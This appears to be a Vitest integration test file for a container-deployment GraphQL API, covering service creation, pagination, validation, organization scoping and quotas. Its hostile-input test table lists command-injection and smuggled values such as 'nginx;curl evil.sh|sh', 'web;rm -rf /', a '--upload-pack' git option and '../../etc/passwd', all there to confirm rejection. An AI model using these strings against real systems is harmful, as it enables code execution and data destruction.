import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApi, type TestApi, type TestUser } from './helpers/api.js';

let api: TestApi;
let alice: TestUser;
let bob: TestUser;
beforeAll(async () => {
  api = await startTestApi();
  [alice, bob] = await Promise.all([api.register('Alice'), api.register('Bob')]);
});
afterAll(async () => {
  await api?.close();
});

const CREATE = `mutation($i: CreateServiceInput!) { createService(input: $i) {
  __typename
  ... on Service { id name status hostname replicas source { type image } env { name value } ports { target published protocol mode } healthCheck { type path port } resources { cpuLimit memoryLimitMb } statusHistory { toStatus reason } }
  ... on ValidationError { fieldErrors { path message } }
  ... on Error { message }
} }`;

async function create(user: TestUser, input: Record<string, unknown>) {
  const result = await api.gql(CREATE, { i: { source: { image: 'nginx:1.27' }, ...input } }, { token: user.accessToken });
  if (result.errors) throw new Error(JSON.stringify(result.errors));
  return result.data.createService;
}

describe('services', () => {
  it('creates a service with its configuration, a generated hostname and a PENDING status record', async () => {
    const service = await create(alice, {
      name: 'web',
      env: [{ name: 'NODE_ENV', value: 'production' }],
      ports: [{ target: 8080, published: 18080, mode: 'HOST' }],
      healthCheck: { type: 'HTTP', path: '/healthz', port: 8080 },
      resources: { cpuLimit: 0.5, memoryLimitMb: 256 },
      replicas: 2,
    });
    expect(service).toMatchObject({
      __typename: 'Service',
      name: 'web',
      status: 'PENDING',
      replicas: 2,
      source: { type: 'IMAGE', image: 'nginx:1.27' },
      env: [{ name: 'NODE_ENV', value: 'production' }],
      ports: [{ target: 8080, published: 18080, protocol: 'TCP', mode: 'HOST' }],
      healthCheck: { type: 'HTTP', path: '/healthz', port: 8080 },
      resources: { cpuLimit: 0.5, memoryLimitMb: 256 },
      statusHistory: [{ toStatus: 'PENDING', reason: 'service created' }],
    });
    expect(service.hostname).toMatch(/^web-.+\.convoy\.localhost$/);
  });

  it('refuses a duplicate name in the same organization but allows it in another', async () => {
    await create(alice, { name: 'api' });
    expect((await create(alice, { name: 'api' })).__typename).toBe('ConflictError');
    expect((await create(bob, { name: 'api' })).__typename).toBe('Service');
  });

  it('updates configuration and deletes, keeping history', async () => {
    const service = await create(alice, { name: 'worker' });
    const updated = await api.gql(
      `mutation($id: ID!, $i: UpdateServiceInput!) { updateService(id: $id, input: $i) { __typename ... on Service { replicas env { name value } source { image } } } }`,
      { id: service.id, i: { replicas: 3, env: [{ name: 'A', value: '1' }], source: { image: 'registry.local:5000/team/worker:2' } } },
      { token: alice.accessToken },
    );
    expect(updated.data.updateService).toEqual({ __typename: 'Service', replicas: 3, env: [{ name: 'A', value: '1' }], source: { image: 'registry.local:5000/team/worker:2' } });
    const deleted = await api.gql(`mutation($id: ID!) { deleteService(id: $id) { __typename ... on Service { id status } } }`, { id: service.id }, { token: alice.accessToken });
    expect(deleted.data.deleteService).toEqual({ __typename: 'Service', id: service.id, status: 'DELETING' });
    expect((await api.gql(`query($id: ID!) { service(id: $id) { id } }`, { id: service.id }, { token: alice.accessToken })).data.service).toBeNull();
    const history = await api.app.db.serviceStatusChange.findMany({ where: { serviceId: service.id } });
    expect(history.map((h) => h.toStatus)).toEqual(['PENDING', 'DELETING']);
    // The name is free again once the service is deleted.
    expect((await create(alice, { name: 'worker' })).__typename).toBe('Service');
  });

  it('lists services as a connection with cursor pagination and filters', async () => {
    const user = await api.register();
    for (const name of ['alpha', 'beta', 'gamma', 'delta', 'epsilon']) await create(user, { name });
    const LIST = `query($after: String, $filter: ServiceFilter) { services(first: 2, after: $after, filter: $filter) { edges { cursor node { name } } pageInfo { hasNextPage endCursor } } }`;
    const names: string[] = [];
    let after: string | null = null;
    for (let page = 0; page < 5; page++) {
      const result: any = await api.gql(LIST, { after }, { token: user.accessToken });
      names.push(...result.data.services.edges.map((e: any) => e.node.name));
      if (!result.data.services.pageInfo.hasNextPage) break;
      after = result.data.services.pageInfo.endCursor;
    }
    expect(names).toEqual(['epsilon', 'delta', 'gamma', 'beta', 'alpha']);
    const search = await api.gql(LIST, { filter: { search: 'ET' } }, { token: user.accessToken });
    expect(search.data.services.edges.map((e: any) => e.node.name)).toEqual(['beta']);
    const byStatus = await api.gql(LIST, { filter: { status: 'RUNNING' } }, { token: user.accessToken });
    expect(byStatus.data.services.edges).toEqual([]);
  });

  it('services(first: 50) with nested fields costs a constant number of SQL queries', async () => {
    const user = await api.register();
    const QUERY = `{ services(first: 50) { edges { node { id name source { type } env { name } organization { id name members(first: 5) { edges { node { role user { email } } } } } statusHistory(last: 3) { toStatus } } } } }`;
    const count = async () => {
      api.queries.length = 0;
      const result = await api.gql(QUERY, {}, { token: user.accessToken });
      expect(result.errors).toBeUndefined();
      return api.queries.length;
    };
    await create(user, { name: 's0' });
    const withOne = await count();
    for (let i = 1; i < 12; i++) await create(user, { name: `s${i}` });
    const withTwelve = await count();
    expect(withTwelve).toBe(withOne);
    expect(withOne).toBeLessThanOrEqual(8);
  });
});

describe('validation of hostile input', () => {
  const hostile: [string, Record<string, unknown>, string][] = [
    ['shell metacharacters in the name', { name: 'web;rm -rf /' }, 'name'],
    ['path traversal in the name', { name: '../etc' }, 'name'],
    ['a 10 KB name', { name: 'a'.repeat(10_240) }, 'name'],
    ['a Unicode look-alike name', { name: 'wеb' }, 'name'],
    ['an empty name', { name: '' }, 'name'],
    ['uppercase name', { name: 'Web' }, 'name'],
    ['a name ending in a hyphen', { name: 'web-' }, 'name'],
    ['a bad env var name', { name: 'ok', env: [{ name: 'A-B=$(id)', value: 'x' }] }, 'env.0.name'],
    ['a port out of range', { name: 'ok', ports: [{ target: 70000 }] }, 'ports.0.target'],
    ['a zero port', { name: 'ok', ports: [{ target: 0 }] }, 'ports.0.target'],
    ['too much CPU', { name: 'ok', resources: { cpuLimit: 1000 } }, 'resources.cpuLimit'],
    ['too little memory', { name: 'ok', resources: { memoryLimitMb: 1 } }, 'resources.memoryLimitMb'],
    ['an image with shell metacharacters', { name: 'ok', source: { image: 'nginx;curl evil.sh|sh' } }, 'source.image'],
    ['an image with path traversal', { name: 'ok', source: { image: '../../etc/passwd' } }, 'source.image'],
    ['two sources at once', { name: 'ok', source: { image: 'nginx', gitUrl: 'https://github.com/a/b' } }, 'source'],
    ['a git URL smuggling an option', { name: 'ok', source: { gitUrl: '--upload-pack=touch /tmp/pwned' } }, 'source.gitUrl'],
    ['a branch that looks like an option', { name: 'ok', source: { gitUrl: 'https://github.com/a/b', gitBranch: '--output=/tmp/x' } }, 'source.gitBranch'],
    ['a custom domain with a look-alike', { name: 'ok', customDomains: ['аpp.example.com'] }, 'customDomains.0'],
    ['the same custom domain twice', { name: 'ok', customDomains: ['app.example.com', 'app.example.com'] }, 'customDomains.1'],
    ['a health check path with spaces', { name: 'ok', healthCheck: { type: 'HTTP', port: 80, path: '/ x' } }, 'healthCheck.path'],
    ['a 40 KB env value', { name: 'ok', env: [{ name: 'A', value: 'x'.repeat(40_000) }] }, 'env.0.value'],
  ];

  it.each(hostile)('refuses %s with a field error and changes nothing', async (_label, input, field) => {
    const before = await api.app.db.service.count();
    const auditBefore = await api.app.db.auditLogEntry.count();
    const result = await api.gql(CREATE, { i: { source: { image: 'nginx:1.27' }, ...input } }, { token: alice.accessToken });
    expect(result.errors).toBeUndefined();
    expect(result.data.createService.__typename).toBe('ValidationError');
    const paths = result.data.createService.fieldErrors.map((e: { path: string[] }) => e.path.join('.'));
    expect(paths).toContain(field);
    expect(await api.app.db.service.count()).toBe(before);
    expect(await api.app.db.auditLogEntry.count()).toBe(auditBefore);
  });
});

describe('organization scoping', () => {
  it("another organization's service behaves exactly like a missing one, for every operation", async () => {
    const service = await create(alice, { name: 'private' });
    const missing = 'cm0000000000000000000000';
    const asBob = { token: bob.accessToken };
    for (const id of [service.id, missing]) {
      expect((await api.gql(`query($id: ID!) { service(id: $id) { id } }`, { id }, asBob)).data.service).toBeNull();
      const update = await api.gql(`mutation($id: ID!) { updateService(id: $id, input: { replicas: 5 }) { __typename ... on NotFoundError { resourceType } } }`, { id }, asBob);
      expect(update.data.updateService).toEqual({ __typename: 'NotFoundError', resourceType: 'Service' });
      const del = await api.gql(`mutation($id: ID!) { deleteService(id: $id) { __typename } }`, { id }, asBob);
      expect(del.data.deleteService.__typename).toBe('NotFoundError');
      const sub = await api.gql(`subscription($id: ID!) { serviceEvents(serviceId: $id) { kind } }`, { id }, asBob);
      expect(sub.errors?.[0].extensions?.code).toBe('NOT_FOUND');
    }
    const list = await api.gql(`{ services(first: 50) { edges { node { id } } } }`, {}, asBob);
    expect(list.data.services.edges.map((e: any) => e.node.id)).not.toContain(service.id);
    const row = await api.app.db.service.findUniqueOrThrow({ where: { id: service.id } });
    expect(row.replicas).toBe(1);
    expect(row.deletedAt).toBeNull();
  });

  it('enforces the service quota before creating anything', async () => {
    const user = await api.register();
    await api.app.db.quota.update({ where: { organizationId: user.organizationId }, data: { maxServices: 2 } });
    await create(user, { name: 'q1' });
    await create(user, { name: 'q2' });
    const third = await api.gql(`mutation { createService(input: { name: "q3", source: { image: "nginx" } }) { __typename ... on QuotaExceededError { resource limit requested } } }`, {}, { token: user.accessToken });
    expect(third.data.createService).toEqual({ __typename: 'QuotaExceededError', resource: 'services', limit: 2, requested: 3 });
    expect(await api.app.db.service.count({ where: { organizationId: user.organizationId } })).toBe(2);
  });
});
